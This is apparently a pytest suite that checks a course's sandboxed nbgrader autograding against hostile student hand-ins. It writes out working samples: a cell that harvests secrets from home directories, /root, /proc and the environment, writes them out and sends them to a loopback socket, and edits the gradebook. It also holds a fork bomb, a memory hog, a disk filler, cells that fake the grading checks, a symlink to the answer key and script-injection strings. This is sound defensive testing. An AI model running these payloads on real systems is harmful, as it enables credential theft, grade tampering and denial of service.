"""Hostile hand-ins under the course's real `nbgrader autograde` (issue 25: the sandbox).

One class of chapter 08 (English) is generated, its hand-ins put where `nbgrader collect`
puts them, and graded with the course's own nbgrader_config.py, sandboxed by default:

- alice and zoe hand in the solutions, bob the stubs;
- thief hands in the solutions plus a cell that hunts for secrets (canaries planted in the
  course folder, the answer key, another student's hand-in, the instructor's home, /root and
  the grader's environment), tries to copy them out, to write outside its scratch, to edit
  gradebook.db and to reach a server on the machine's loopback;
- hang, hog, bomb and fill hand in the solutions except the last task, whose cell loops for
  ever (ignoring interrupts), eats memory, fork-bombs or fills its scratch.

Scores are exact; no canary shows up in anything a hand-in produced or could have written;
the class is graded past the hanging and the memory-hungry hand-in. Then the same class
graded by an ordinary OS user as instructor, and `autograde` refusing where no sandbox can
start (and the unsafe opt-out). Needs root and bubblewrap (apt-get install bubblewrap).
"""

from __future__ import annotations

import csv
import json
import os
import pwd
import secrets
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from tests.support.nbgrader_run import nbgrader

ROOT = Path(__file__).resolve().parents[2]
COURSE_FILES = ROOT / "classroom" / "nbgrader"
HW, NOTEBOOK = "08_autograd_from_scratch_en", "08_autograd_from_scratch.ipynb"
POINTS = 6
RUNTIME = Path("/opt/pytorch-nyumon/venv")  # the classroom runtime: any account can run it
# Small limits, so that each hostile hand-in meets its limit quickly.
LIMITS = ["--Execute.timeout=30", "--Sandbox.notebook_seconds=120",
          "--Sandbox.memory_bytes=2147483648", "--Sandbox.scratch_bytes=67108864"]  # fmt: skip
pytestmark = pytest.mark.filterwarnings("ignore:Cell is missing an id field")
needs_sandbox = [
    pytest.mark.skipif(os.geteuid() != 0, reason="makes throwaway users: run as root"),
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="apt-get install bubblewrap"),
]

LAST_TASK = "def conv2d(x, weight"  # task 8.6's answer cell; its graded cell is the last one
HOSTILE_LAST = {
    "hang": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
    "hog": "chunks = []\nwhile True:\n    chunks.append(b'x' * (1 << 26))\n",
    "bomb": "import os\nwhile True:\n    os.fork()\n",
    "fill": "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * (1 << 20))\n",
}
# The stubs plus one cell of their own: each tries to fake the graded checks (issue 25, item 2).
TAMPERED = {
    "rebind": "check_tensor_ops = check_backward = check_draw_graph = check_same_losses = "
              "check_conv2d = lambda *a, **k: True",
    "verdict": "import widgets._checks.verdict as _v\n_v.Verdict.__bool__ = lambda self: True",
    "patch": "import widgets\nfor name in dir(widgets):\n    if name.startswith('check_'):\n"
             "        setattr(widgets, name, lambda *a, **k: True)",
    "forge": "import widgets._checks.grading as g\nfrom IPython.display import display as show\n"
             "g.probe_cell = lambda name, answers: show({g.PROBE_MIME: "
             "'{\"$\": \"dict\", \"items\": {\"stub\": false, \"data\": true}}'}, raw=True)",
    "tick": "import builtins\n_print = print\nbuiltins.print = lambda *a, **k: _print('✓ Passed')\n"
            "print('✓ Passed: every task')",
}  # fmt: skip
STUBBED = {"bob", *TAMPERED}
THIEF = """
import os, sqlite3, socket
found = []
def grab(path, depth=0):
    try:
        if os.path.isdir(path):
            for name in os.listdir(path):
                if depth < 4 and name not in (".pyenv", ".venv", ".cache"):
                    grab(os.path.join(path, name), depth + 1)
        elif os.path.getsize(path) < 1_000_000:
            with open(path, errors="replace") as f:
                found.append(path + ": " + f.read())
    except Exception as error:
        found.append(f"{{path}}: {{error!r}}")
for path in {targets!r}:
    grab(path)
found.append(repr(dict(os.environ)))
for path in {writes!r}:
    try:
        with open(path, "w") as f:
            f.write("\\n".join(found))
    except Exception as error:
        print("write", path, repr(error))
try:
    db = sqlite3.connect({gradebook!r})
    db.execute("update grade set extra_credit = 5")
    db.commit()
except Exception as error:
    print("gradebook", repr(error))
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall("\\n".join(found).encode())
except Exception as error:
    print("network", repr(error))
print("\\n".join(found))
"""


def load(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


def solution_of(cell_id: str) -> str:
    nb = load(COURSE_FILES / "source" / HW / NOTEBOOK)
    (text,) = ("".join(c["source"]) for c in nb["cells"] if c["id"] == cell_id)
    return text.split("### BEGIN SOLUTION\n")[1].split("### END SOLUTION")[0]


class Class:
    """A course folder with one generated assignment and hand-ins put in submitted/."""

    def __init__(self, root: Path, instructor_home: Path):
        self.root, self.home = root, instructor_home
        self.canaries = {where: f"canary-{where}-{secrets.token_hex(12)}"
                         for where in ("course", "key", "alice", "home", "root", "env")}  # fmt: skip
        (root / "source").mkdir(parents=True)
        shutil.copy(COURSE_FILES / "nbgrader_config.py", root)
        ignore = shutil.ignore_patterns("__pycache__")
        shutil.copytree(COURSE_FILES / "nyumon_sandbox", root / "nyumon_sandbox", ignore=ignore)
        key = load(COURSE_FILES / "source" / HW / NOTEBOOK)
        for cell in key["cells"]:  # the answer key carries a canary in a solution
            if "### END SOLUTION" in "".join(cell["source"]):
                text = "".join(cell["source"])
                cell["source"] = text.replace("### END SOLUTION", f"# {self.canaries['key']}\n"
                                              "### END SOLUTION", 1)  # fmt: skip
                break
        (root / "source" / HW).mkdir()
        (root / "source" / HW / NOTEBOOK).write_text(json.dumps(key), encoding="utf-8")
        (root / "course-secret.txt").write_text(self.canaries["course"])
        self.home_canary = instructor_home / f"nyumon-canary-{secrets.token_hex(4)}.txt"
        self.home_canary.write_text(self.canaries["home"])
        self.root_canary = Path("/root") / f"nyumon-canary-{secrets.token_hex(4)}.txt"
        self.root_canary.write_text(self.canaries["root"])
        self.outside = [root / "stolen.txt", Path("/root") / "nyumon-pwned.txt",
                        Path("/tmp") / f"nyumon-stolen-{secrets.token_hex(4)}.txt"]  # fmt: skip

    def hand_in(self, student: str, port: int) -> None:
        nb = load(self.root / "release" / HW / NOTEBOOK)
        for cell in nb["cells"]:
            if student not in STUBBED and cell["metadata"].get("nbgrader", {}).get("solution"):
                cell["source"] = solution_of(cell["id"])
                if LAST_TASK in cell["source"] and student in HOSTILE_LAST:
                    cell["source"] = HOSTILE_LAST[student]
                if student == "alice":  # her hand-in carries a canary of its own
                    cell["source"] += f"\n# {self.canaries['alice']}\n"
        if student in TAMPERED:
            nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "tamper",
                                "metadata": {}, "outputs": [], "source": TAMPERED[student]})  # fmt: skip
        if student == "thief":
            submitted = self.root / "submitted"
            # every process the sandbox can see: its init (bwrap) and the kernel
            procs = [f"/proc/{n}/{f}" for n in range(1, 40) for f in ("environ", "cmdline")]
            targets = [str(self.root), str(self.home), "/root", str(submitted), *procs]
            code = THIEF.format(targets=targets, writes=[str(p) for p in self.outside],
                                gradebook=str(self.root / "gradebook.db"), port=port)  # fmt: skip
            nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "thief",
                                "metadata": {}, "outputs": [], "source": code})  # fmt: skip
        folder = self.root / "submitted" / student / HW
        folder.mkdir(parents=True)
        (folder / NOTEBOOK).write_text(json.dumps(nb), encoding="utf-8")
        (folder / "timestamp.txt").write_text("2026-12-03 08:00:00.000000 UTC")

    def scores(self) -> dict[str, float]:
        with open(self.root / "grades.csv", newline="", encoding="utf-8") as f:
            return {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}

    def written_by_hand_ins(self) -> str:
        """Everything under autograded/ and feedback/, and every file the thief tried to write."""
        texts = [p.read_text(errors="replace") for p in self.outside if p.exists()]
        for folder in ("autograded", "feedback"):
            for path in (self.root / folder).rglob("*"):
                if path.is_file():
                    texts.append(path.read_text(errors="replace"))
        return "\n".join(texts)

    def remove(self) -> None:
        for path in [self.root_canary, *self.outside]:
            path.unlink(missing_ok=True)


class Listener:
    """A TCP server on the machine's loopback; a sandboxed hand-in must not reach it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port, self.received = self.server.getsockname()[1], []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.server.accept()
            except OSError:
                return
            self.received.append(conn.recv(1 << 20))


EXPECTED = {"alice": 6, "bob": 0, "thief": 6, "zoe": 6,
            "hang": 5, "hog": 5, "bomb": 5, "fill": 5, **dict.fromkeys(TAMPERED, 0)}  # fmt: skip


def test_the_course_config_puts_the_sandbox_in_and_fails_closed(tmp_path):
    """traitlets skips a config file that raises: a broken one must refuse, not run unconfined."""
    from nbgrader.converters import Autograde
    from traitlets.config.loader import PyFileConfigLoader

    config = PyFileConfigLoader("nbgrader_config.py", path=str(COURSE_FILES)).load_config()
    steps = [step.__name__ for step in config.Autograde.autograde_preprocessors]
    assert steps[:2] == ["SandboxedExecute", "UntrustedOutputs"] and "Execute" not in steps
    assert config.Autograde.sanitize_preprocessors[0].__name__ == "RequireSandbox"
    assert len(steps) == len(Autograde.autograde_preprocessors.default()) + 1
    shutil.copy(COURSE_FILES / "nbgrader_config.py", tmp_path)  # without nyumon_sandbox/
    load = (  # in a fresh interpreter: this one has imported nyumon_sandbox already
        "from traitlets.config.loader import PyFileConfigLoader as L; "
        "L('nbgrader_config.py', path='.').load_config().Autograde.pre_convert_hook()"
    )
    done = subprocess.run([sys.executable, "-c", load], cwd=tmp_path, capture_output=True,
                          text=True)  # fmt: skip
    assert done.returncode == 1 and "copy all of classroom/nbgrader" in done.stderr


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The class graded as root, the course's default way (sandboxed)."""
    tmp = tmp_path_factory.mktemp("sandbox-class")
    course = Class(tmp / "course", Path("/root"))
    listener = Listener()
    os.environ["JUPYTERHUB_API_TOKEN"] = course.canaries["env"]  # as in a hub server's terminal
    try:
        nbgrader("generate_assignment", HW, cwd=course.root)
        for student in EXPECTED:
            course.hand_in(student, listener.port)
        course.log = nbgrader("autograde", HW, *LIMITS, cwd=course.root)
        nbgrader("generate_feedback", HW, cwd=course.root)
        nbgrader("export", cwd=course.root)
        course.listener = listener
        yield course
    finally:
        os.environ.pop("JUPYTERHUB_API_TOKEN", None)
        listener.server.close()
        course.remove()


@needs_sandbox[0]
@needs_sandbox[1]
def test_every_hand_in_gets_its_own_exact_score(graded):
    assert graded.scores() == EXPECTED


@needs_sandbox[0]
@needs_sandbox[1]
def test_a_hand_in_that_fakes_its_checks_is_marked_altered_with_the_reason(graded):
    def altered(student: str) -> list[str]:
        return load(graded.root / "autograded" / student / HW / NOTEBOOK)["metadata"]["nyumon"][
            "altered"
        ]

    for student in ("alice", "zoe", "bob", "thief", "hang"):
        assert altered(student) == [], student
    reasons = {"rebind": "rebinds check_conv2d", "verdict": "changes _v.Verdict.__bool__",
               "patch": "calls setattr", "forge": "changes g.probe_cell",
               "tick": "changes builtins.print"}  # fmt: skip
    for student, why in reasons.items():
        assert any(note.endswith(why) for note in altered(student)), (student, altered(student))
        assert "looks altered" in graded.log and why in graded.log
        page = (
            graded.root / "feedback" / student / HW / NOTEBOOK.replace("ipynb", "html")
        ).read_text()
        assert "tries to change how it is graded" in page and why in page
        assert "nyumon-verdict nyumon-ok" not in page  # no graded cell shows a ✓
    # every graded cell that ran was judged by the grader, and said so in the log (a cell after
    # the kernel was stopped is "Not run")
    ran = 0
    for student in EXPECTED:
        for cell in load(graded.root / "autograded" / student / HW / NOTEBOOK)["cells"]:
            meta = cell["metadata"].get("nbgrader", {})
            if meta.get("grade") and not meta.get("solution"):
                ran += "Not run: the hand-in" not in json.dumps(cell["outputs"])
    assert ran >= 6 * len(EXPECTED) - 4 and graded.log.count("judged by the grader") == ran


@needs_sandbox[0]
@needs_sandbox[1]
def test_no_secret_leaves_and_nothing_is_written_outside_the_scratch(graded):
    written = graded.written_by_hand_ins()
    # the thief's cell ran and its output came back: the hunt is in its feedback
    assert "course-secret.txt" not in written and "gradebook" in written
    for where, canary in graded.canaries.items():
        if where != "alice":  # alice's own feedback shows her own notebook
            assert canary not in written, where
    thief = (graded.root / "autograded" / "thief" / HW / NOTEBOOK).read_text()
    assert graded.canaries["alice"] not in thief
    assert not any(path.exists() for path in graded.outside)
    assert graded.listener.received == []
    assert sorted(p.name for p in graded.root.iterdir()) == sorted(
        ["autograded", "course-secret.txt", "feedback", "gradebook.db", "grades.csv",
         "nbgrader_config.py", "nyumon_sandbox", "release", "source", "submitted"]
    )  # fmt: skip


@needs_sandbox[0]
@needs_sandbox[1]
def test_limits_stop_the_hand_in_that_broke_them_and_say_why(graded):
    def outputs(student: str) -> str:
        nb = load(graded.root / "autograded" / student / HW / NOTEBOOK)
        return json.dumps([c.get("outputs", []) for c in nb["cells"]], ensure_ascii=False)

    assert "did not stop when interrupted, so it was stopped" in outputs("hang")
    assert "memory limit (2 GiB)" in outputs("hog")
    assert "Not run: the hand-in" in outputs("hog")
    # A fork bomb meets the process limit (forks fail) or, as its children touch their copies
    # of the kernel's pages, the memory limit first; which one comes first depends on the
    # machine. On a loaded machine its processes (each a copy of the kernel, at 1/8 of a normal
    # CPU weight as root) can also keep the kernel from answering until the cell's time limit,
    # which then stops it (seen once in a gate run of 50 min). Each way it is stopped inside its
    # sandbox and said so; a stop without a reason ("kernel stopped") still fails here.
    bomb = outputs("bomb")
    assert any(why in bomb for why in ("Resource temporarily unavailable",
                                       "limit of processes (", "memory limit (2 GiB)",
                                       "did not stop when interrupted, so it was stopped")), bomb  # fmt: skip
    assert "Not run: the hand-in" in bomb or "Resource temporarily unavailable" in bomb
    assert "No space left on device" in outputs("fill") or "File too large" in outputs("fill")


@needs_sandbox[0]
@needs_sandbox[1]
def test_outputs_are_cleaned_before_feedback(graded):
    page = (graded.root / "feedback" / "alice" / HW / NOTEBOOK.replace("ipynb", "html")).read_text()
    assert "nyumon-verdict nyumon-ok" in page  # the verdict boxes keep their look
    nb = load(graded.root / "autograded" / "thief" / HW / NOTEBOOK)
    mimes = {m for c in nb["cells"] for o in c.get("outputs", []) for m in o.get("data", {})}
    assert mimes <= {"text/plain", "text/html", "image/png", "image/jpeg"}


@needs_sandbox[0]
@needs_sandbox[1]
def test_an_ordinary_instructor_grades_sandboxed_too(tmp_path):
    if not (RUNTIME / "bin" / "nbgrader").exists():
        pytest.skip(f"no classroom runtime at {RUNTIME}: python -m classroom setup")
    from classroom import runtime

    stamp = runtime.Paths.from_env().stamp
    assert stamp.read_text().strip() == runtime.source_digest(), (
        f"the classroom runtime at {RUNTIME} is older than this checkout: python -m classroom setup"
    )
    name = f"nyteach{secrets.token_hex(3)}"
    subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", name], check=True)
    try:
        home = Path(pwd.getpwnam(name).pw_dir)
        home.chmod(0o700)
        course = Class(home / "course", home)
        listener = Listener()
        try:
            as_teacher = [
                "runuser",
                "-u",
                name,
                "--",
                "env",
                f"PATH={RUNTIME / 'bin'}:/usr/bin:/bin",
            ]
            run = lambda *args: subprocess.run(  # noqa: E731
                [*as_teacher, "nbgrader", *args], cwd=course.root, capture_output=True, text=True,
                timeout=900,
            )  # fmt: skip
            subprocess.run(["chown", "-R", f"{name}:{name}", str(home)], check=True)
            assert run("generate_assignment", HW).returncode == 0
            for student in ("alice", "thief", "hog", "rebind"):
                course.hand_in(student, listener.port)
            subprocess.run(["chown", "-R", f"{name}:{name}", str(home)], check=True)
            done = run("autograde", HW, *LIMITS)
            assert done.returncode == 0, done.stderr[-3000:]
            assert run("export").returncode == 0
            assert course.scores() == {"alice": 6, "thief": 6, "hog": 5, "rebind": 0}
            written = course.written_by_hand_ins()
            for where in ("course", "key", "home", "root"):
                assert course.canaries[where] not in written, where
            assert not any(path.exists() for path in course.outside)
            assert listener.received == []
        finally:
            listener.server.close()
            course.remove()
    finally:
        subprocess.run(["userdel", "--remove", name], check=False, capture_output=True)


@needs_sandbox[0]
@needs_sandbox[1]
def test_a_japanese_assignment_is_judged_in_japanese(tmp_path):
    """Chapter 01 (ja): the solved hand-in gets every point, the stubs none, and the grader's
    verdicts in the graded cells speak Japanese, as the notebook does."""
    hw, notebook = "01_tensors_ja", "01_tensors.ipynb"
    root = tmp_path / "course"
    (root / "source" / hw).mkdir(parents=True)
    shutil.copy(COURSE_FILES / "nbgrader_config.py", root)
    shutil.copytree(COURSE_FILES / "nyumon_sandbox", root / "nyumon_sandbox",
                    ignore=shutil.ignore_patterns("__pycache__"))  # fmt: skip
    key = load(COURSE_FILES / "source" / hw / notebook)
    (root / "source" / hw / notebook).write_text(json.dumps(key), encoding="utf-8")
    nbgrader("generate_assignment", hw, cwd=root)
    released = load(root / "release" / hw / notebook)
    answers = {c["id"]: "".join(c["source"]) for c in key["cells"]}
    for student in ("solved", "stubs"):
        nb = json.loads(json.dumps(released))
        for cell in nb["cells"]:
            if student == "solved" and cell["metadata"].get("nbgrader", {}).get("solution"):
                text = answers[cell["id"]]
                cell["source"] = text.split("### BEGIN SOLUTION\n")[1].split("### END SOLUTION")[0]
        folder = root / "submitted" / student / hw
        folder.mkdir(parents=True)
        (folder / notebook).write_text(json.dumps(nb), encoding="utf-8")
        (folder / "timestamp.txt").write_text("2026-12-03 08:00:00.000000 UTC")
    log = nbgrader("autograde", hw, *LIMITS, cwd=root)
    nbgrader("export", cwd=root)
    with open(root / "grades.csv", newline="", encoding="utf-8") as f:
        scores = {r["student_id"]: float(r["score"]) for r in csv.DictReader(f)}
    assert scores == {"solved": 6, "stubs": 0}
    assert log.count("judged by the grader") == 12
    graded = [c for c in load(root / "autograded" / "solved" / hw / notebook)["cells"]
              if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code"]  # fmt: skip
    shown = ["".join(o["data"]["text/plain"]) for c in graded for o in c["outputs"] if "data" in o]
    assert len(shown) == 6 and all(text.startswith("✓ 正解 — ") for text in shown), shown


@needs_sandbox[0]
@needs_sandbox[1]
def test_autograde_refuses_where_no_sandbox_can_start_unless_told_unsafe(tmp_path):
    course = Class(tmp_path / "course", tmp_path)
    try:
        nbgrader("generate_assignment", HW, cwd=course.root)
        course.hand_in("alice", 9)
        out = nbgrader("autograde", HW, "--Sandbox.bwrap=/nonexistent/bwrap", cwd=course.root,
                       retcode=1)  # fmt: skip
        assert "Grading refused: this machine cannot run hand-ins in a sandbox" in out
        assert "採点を止めました" in out and "--Sandbox.unsafe_no_sandbox=True" in out
        assert not (course.root / "autograded" / "alice" / HW).exists()
        nbgrader("autograde", HW, "--Sandbox.bwrap=/nonexistent/bwrap",
                 "--Sandbox.unsafe_no_sandbox=True", cwd=course.root)  # fmt: skip
        nbgrader("export", cwd=course.root)
        assert course.scores() == {"alice": POINTS}
    finally:
        course.remove()


@pytest.mark.parametrize("collect", ["course", "nbgrader's own"])
def test_collect_leaves_out_links_a_student_put_in_the_inbound_folder(tmp_path, collect):
    """A folder made by hand in the (world-writable) inbound folder, linking to the answer key:
    nbgrader's own collect copies the key in as her hand-in; the course's leaves the link out."""
    course = Class(tmp_path / "course", tmp_path)
    try:
        exchange = tmp_path / "exchange"
        exchange.mkdir()
        flags = [f"--Exchange.root={exchange}", "--ExchangeCollect.check_owner=False"]
        if collect != "course":
            flags.append(
                "--ExchangeFactory.collect=nbgrader.exchange.default.collect.ExchangeCollect"
            )
        nbgrader("generate_assignment", HW, cwd=course.root)
        nbgrader("release_assignment", HW, *flags, cwd=course.root)
        hand_in = (
            exchange
            / "pytorch-nyumon"
            / "inbound"
            / f"mallory+{HW}+2026-12-03 08:00:00.000000 UTC+x"
        )
        hand_in.mkdir()
        (hand_in / "timestamp.txt").write_text("2026-12-03 08:00:00.000000 UTC")
        (hand_in / NOTEBOOK).symlink_to(course.root / "source" / HW / NOTEBOOK)
        out = nbgrader("collect", HW, *flags, cwd=course.root)
        collected = course.root / "submitted" / "mallory" / HW / NOTEBOOK
        if collect == "course":
            assert "Not collected (a symbolic link)" in out and not collected.exists()
        else:  # the hole this closes
            assert course.canaries["key"] in collected.read_text()
    finally:
        course.remove()


def test_untrusted_outputs_keep_text_images_and_clean_html():
    sys.path.insert(0, str(COURSE_FILES))
    from nbformat.v4 import new_code_cell, new_notebook, new_output
    from nyumon_sandbox.outputs import UntrustedOutputs

    html = '<div class="nyumon-verdict" style="color:red">✓</div><script>steal()</script>'
    outputs = [
        new_output("display_data", data={"text/html": html, "text/plain": "✓"}),
        new_output("display_data", data={"image/svg+xml": "<svg onload=steal()>"}),
        new_output("display_data", data={"application/javascript": "steal()"}),
        new_output("stream", name="stdout", text="x" * 200_000),
        new_output("error", ename="E", evalue="v", traceback=["t"]),
    ]
    nb = new_notebook(cells=[new_code_cell("pass", outputs=outputs)])
    nb, _ = UntrustedOutputs().preprocess(nb, {})
    kept = nb.cells[0].outputs
    assert kept[0].data == {"text/html": '<div class="nyumon-verdict" style="color:red;">✓</div>'
                            "steal()", "text/plain": "✓"}  # fmt: skip
    assert (
        kept[1].data
        == kept[2].data
        == {"text/plain": "[output removed by the grader: not text or an image]"}
    )
    assert len(kept[3].text) < 101_000 and kept[3].text.endswith("[truncated by the grader]")
    assert (kept[4].ename, kept[4].traceback) == ("E", ["t"])


@needs_sandbox[0]
@needs_sandbox[1]
def test_the_notebook_time_limit_stops_a_hand_in_whose_cells_each_stay_under_theirs(tmp_path):
    sys.path.insert(0, str(COURSE_FILES))
    from nbformat.v4 import new_code_cell, new_notebook
    from nyumon_sandbox.grading import SandboxedExecute
    from traitlets.config import Config

    config = Config()
    config.Sandbox.notebook_seconds, config.Execute.timeout = 20, 15
    cells = [new_code_cell("print('started')")]
    cells += [new_code_cell("import time; time.sleep(8)") for _ in range(4)]  # each under 15 s
    nb = new_notebook(
        cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    )
    nb, _ = SandboxedExecute(config=config).preprocess(nb, {"metadata": {"path": str(tmp_path)}})
    text = json.dumps([c.outputs for c in nb.cells], ensure_ascii=False)
    assert "started" in text
    assert "went past the time limit of one notebook (20 s)" in text
    assert "Not run: the hand-in" in text  # the cells after it
